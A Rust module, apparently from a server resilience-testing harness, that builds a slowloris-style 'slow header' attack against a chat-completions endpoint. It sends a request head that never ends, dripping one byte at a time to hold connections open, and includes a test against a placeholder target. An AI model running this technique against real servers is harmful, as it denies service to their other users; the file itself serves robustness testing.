//! A header that never ends, byte by byte.

use std::time::Duration;

use super::raw;
use super::{Attack, Context, Criterion};
use crate::ask::{Endpoint, Leave, Script, Shot, Step};

/// Bytes that are dripped at most: at up to a second each, the server should have lost its patience long before.
pub(super) const DRIPS_MAX: usize = 60;

/// A header that never ends.
#[derive(Debug)]
pub(super) struct SlowHeader;

impl Attack for SlowHeader {
    fn name(&self) -> &'static str {
        "slow-header"
    }

    fn description(&self) -> &'static str {
        "requests whose head comes byte by byte and never ends, each holding a connection"
    }

    fn criterion(&self) -> Criterion {
        Criterion::BystanderThroughput
    }

    fn shot(&self, context: &Context<'_>, dice: &mut fastrand::Rng) -> Shot {
        let start = raw::open_head(context, Endpoint::Chat.path()) + "x-slow: ";
        Shot::Hostile(Script {
            steps: vec![Step::Send(start.into()), drip(b'a', dice)],
            leave: Leave::Await(Duration::from_secs(1)),
        })
    }
}

/// One byte now and then.
pub(super) fn drip(byte: u8, dice: &mut fastrand::Rng) -> Step {
    Step::Drip {
        bytes: vec![byte; DRIPS_MAX].into(),
        n_at_once: 1,
        pause: Duration::from_millis(dice.u64(200..1_000)),
    }
}

#[cfg(test)]
mod tests {
    use super::super::tests::{CONTEXT, hostile, wire_bytes};
    use super::*;

    #[test]
    fn the_head_does_not_end() {
        for script in hostile(&SlowHeader, 20) {
            let text = String::from_utf8(wire_bytes(&script)).unwrap();
            assert!(
                text.starts_with("POST /v1/chat/completions HTTP/1.1\r\nhost: target.example:8080\r\n"),
                "{text}"
            );
            assert!(
                text.contains(&format!("authorization: Bearer {}\r\n", CONTEXT.api_key.unwrap())),
                "{text}"
            );
            assert!(!text.contains("\r\n\r\n") && text.ends_with("aaa"), "{text}");
        }
    }
}
